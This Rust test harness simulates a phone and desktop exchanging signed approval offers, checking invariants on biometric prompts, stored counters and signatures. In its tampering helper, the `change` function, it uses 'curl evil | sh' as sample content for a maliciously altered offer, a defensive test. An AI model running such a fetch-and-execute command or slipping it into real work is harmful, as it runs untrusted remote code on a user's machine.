//! A phone, a desktop and two queues between them, with the invariants that hold whatever happens in between.

use std::collections::{BTreeMap, BTreeSet};

use countersign_proto::{
    canonical, domain,
    id::OfferId,
    limits,
    message::{Closed, Message},
    reply::{Reply, SignedReply},
    text::Foreign,
};

use super::{Command, Event, Input, Phone, State, StoreId};
use crate::{
    choice::Choice,
    clock::{Fresh, Now},
    fake_desktop::{FakeDesktop, Finger, pair, request},
    inbox::{End, Stage},
    pair::Pair,
    signer::{Pending, Subject},
    vault::Part,
};

pub(super) struct World {
    pub(super) phone: Phone,
    pub(super) desktop: FakeDesktop,
    pub(super) finger: Finger,
    pub(super) now: Now,
    random: u64,
    /// Envelopes on their way, oldest first, with the time they were sent.
    pub(super) to_phone: Vec<(Vec<u8>, u64)>,
    pub(super) to_desktop: Vec<Vec<u8>>,
    /// Stores that were not acknowledged yet.
    pub(super) stores: Vec<(StoreId, Option<u64>)>,
    pub(super) prompt: Option<Pending>,
    pub(super) events: Vec<Event>,
    pub(super) wiped: bool,
    stored_counter: u64,
    signed_counter: u64,
    /// Replies that were signed, by offer: counters.
    signatures: BTreeMap<OfferId, Vec<u64>>,
    /// Signed words seen leaving.
    seen: BTreeSet<Vec<u8>>,
}

impl World {
    pub(super) fn new() -> Self {
        let finger = Finger::new();
        let (desktop, paired, [device, relay]) = pair(&finger);
        let pair = Pair { desktop: paired, device, relay };
        Self {
            phone: Phone::new(pair, Foreign::new("test 1")),
            desktop,
            finger,
            now: Now { boot_ms: 1_000_000, wall_ms: 1_800_000_000_000 },
            random: 0,
            to_phone: Vec::new(),
            to_desktop: Vec::new(),
            stores: Vec::new(),
            prompt: None,
            events: Vec::new(),
            wiped: false,
            stored_counter: 0,
            signed_counter: 0,
            signatures: BTreeMap::new(),
            seen: BTreeSet::new(),
        }
    }

    /// A world in which phone and desktop talk.
    pub(super) fn connected() -> Self {
        let mut world = Self::new();
        world.connect();
        world.settle();
        assert!(world.events.contains(&Event::Up));
        world
    }

    pub(super) fn connect(&mut self) {
        self.input(Input::Connected);
        self.input(Input::Peer { online: true });
    }

    pub(super) fn input(&mut self, input: Input) {
        self.random += 1;
        let mut bytes = [0xf0; 32];
        bytes[..8].copy_from_slice(&self.random.to_be_bytes());
        self.phone.handle(input, Fresh::new(bytes), self.now);
        while let Some(command) = self.phone.poll_command() {
            self.look_at(command);
        }
        self.check();
    }

    fn look_at(&mut self, command: Command) {
        match command {
            Command::Send { envelope, ttl_s, first: _ } => {
                assert!(u64::from(ttl_s) <= limits::ENVELOPE_TTL.as_secs() && ttl_s > 0);
                self.to_desktop.push(envelope);
            }
            Command::Store { store, change } => {
                let counter = (change.record.part == Part::Counter)
                    .then(|| u64::from_be_bytes(change.bytes.as_slice().try_into().unwrap()));
                self.stores.push((store, counter));
            }
            Command::AskBio(pending) => {
                assert!(self.prompt.is_none(), "one prompt at a time");
                self.prompt = Some(pending);
            }
            Command::CancelBio => {
                assert!(self.prompt.take().is_some(), "only a prompt that is up comes down")
            }
            Command::Show(event) => self.events.push(event),
            Command::Wipe => self.wiped = true,
        }
    }

    /// What holds after every step.
    fn check(&mut self) {
        if let Some(pending) = self.prompt.clone() {
            let Subject::Offer(offer_id) = pending.subject else { panic!("no pairing here") };
            let entry = self.phone.inbox().get(offer_id).expect("a prompt has its card");
            assert!(matches!(entry.stage(), Stage::Deciding(_)), "a prompt without a decision");
            assert!(entry.left_ms(self.now) > 0, "a prompt for a card that is over");
            let reply = reply_of(&pending);
            assert_eq!(reply.offer_hash, entry.card().offer_hash, "a prompt for other bytes than the card's");
            assert!(reply.counter <= self.stored_counter, "asked for a finger before the counter was stored");
        }
        for signed in self.phone_words() {
            let reply: Reply = canonical::decode(&signed.bytes, limits::MESSAGE).unwrap();
            if self.seen.insert(signed.bytes.clone()) {
                assert!(reply.counter <= self.stored_counter, "signed before the counter was stored");
                assert!(reply.counter > self.signed_counter, "the counter must grow");
                self.signed_counter = reply.counter;
                let refused = self.desktop.refusals.iter().filter(|(id, _)| *id == reply.offer_id).count();
                let signatures = self.signatures.entry(reply.offer_id).or_default();
                signatures.push(reply.counter);
                assert!(signatures.len() <= 1 + refused, "a second signature without a refusal");
            }
        }
        for event in &self.events {
            if let Event::Ended(offer_id, End::Released(decision)) = event {
                let settled = &self.desktop.settled;
                assert!(
                    settled.iter().any(|reply| reply.offer_id == *offer_id && reply.decision == *decision)
                );
            }
        }
    }

    /// Signed replies the phone holds.
    fn phone_words(&self) -> Vec<SignedReply> {
        match &self.phone.state {
            State::Paired(paired) => paired.sent.replies(),
            State::Revoked { .. } => Vec::new(),
        }
    }

    /// Acknowledges the oldest store.
    pub(super) fn ack_store(&mut self) {
        if !self.stores.is_empty() {
            let (store, counter) = self.stores.remove(0);
            self.stored_counter = counter.unwrap_or(0).max(self.stored_counter);
            self.input(Input::Stored(store));
        }
    }

    /// The oldest store fails.
    pub(super) fn fail_store(&mut self) {
        if !self.stores.is_empty() {
            let (store, _) = self.stores.remove(0);
            self.input(Input::StoreFailed(store));
        }
    }

    /// A finger on whatever prompt is up.
    pub(super) fn touch(&mut self) {
        if let Some(pending) = self.prompt.take() {
            let signature = self.finger.sign(&pending.bytes);
            self.input(Input::BioSigned { prompt: pending.prompt, signature });
        }
    }

    pub(super) fn cancel(&mut self) {
        if let Some(pending) = self.prompt.take() {
            self.input(Input::BioCancelled { prompt: pending.prompt });
        }
    }

    pub(super) fn deliver(&mut self, place: usize) {
        let (envelope, sent_ms) = self.to_phone.remove(place);
        let age_ms = u32::try_from(self.now.boot_ms - sent_ms).unwrap();
        self.input(Input::Delivered { envelope, age_ms });
    }

    pub(super) fn deliver_to_desktop(&mut self, place: usize) {
        let envelope = self.to_desktop.remove(place);
        let answers = self.desktop.receive(&envelope, self.now.boot_ms);
        self.push(answers);
    }

    pub(super) fn push(&mut self, envelopes: Vec<Vec<u8>>) {
        let sent_ms = self.now.boot_ms;
        self.to_phone.extend(envelopes.into_iter().map(|envelope| (envelope, sent_ms)));
    }

    /// Lets everything arrive and every store succeed, until nothing is left to do now.
    pub(super) fn settle(&mut self) {
        for _ in 0..10_000 {
            if !self.settle_one() {
                return;
            }
        }
        panic!("phone and desktop never come to rest");
    }

    /// Lets one thing happen; false where nothing is left to do now.
    pub(super) fn settle_one(&mut self) -> bool {
        if !self.stores.is_empty() {
            self.ack_store();
        } else if !self.to_desktop.is_empty() {
            self.deliver_to_desktop(0);
        } else if !self.to_phone.is_empty() {
            self.deliver(0);
        } else {
            return false;
        }
        true
    }

    /// The desktop, or somebody with its key, sends an id again with other content.
    pub(super) fn change(&mut self, offer_id: OfferId) {
        let other = self.desktop.make_other(offer_id, &request("curl evil | sh"));
        let envelopes = self.desktop.say(&Message::Offer(other), self.now.boot_ms);
        self.push(envelopes);
    }

    pub(super) fn advance(&mut self, ms: u64) {
        self.now.boot_ms += ms;
        self.now.wall_ms += ms;
        self.input(Input::Tick);
    }

    pub(super) fn offer(&mut self, command: &str) -> OfferId {
        let (offer_id, message) = self.desktop.make_offer(&request(command), self.now.boot_ms);
        let envelopes = self.desktop.say(&Message::Offer(message), self.now.boot_ms);
        self.push(envelopes);
        offer_id
    }

    pub(super) fn withdraw(&mut self, offer_id: OfferId) {
        let envelopes = self.desktop.withdraw(offer_id, Closed::Withdrawn, self.now.boot_ms);
        self.push(envelopes);
    }

    pub(super) fn see_and_decide(&mut self, offer_id: OfferId, choice: Choice) {
        self.input(Input::SeenToEnd { offer_id });
        self.input(Input::Decide { offer_id, choice });
    }

    pub(super) fn stage(&self, offer_id: OfferId) -> Stage {
        self.phone.inbox().get(offer_id).unwrap().stage().clone()
    }

    pub(super) fn signatures_of(&self, offer_id: OfferId) -> usize {
        self.signatures.get(&offer_id).map_or(0, Vec::len)
    }
}

/// The reply inside the bytes a finger is asked to sign.
pub(super) fn reply_of(pending: &Pending) -> Reply {
    let label = domain::sig(domain::REPLY_BIO, &[]);
    let bytes = pending.bytes.strip_prefix(label.as_slice()).unwrap();
    canonical::decode(bytes, limits::MESSAGE).unwrap()
}
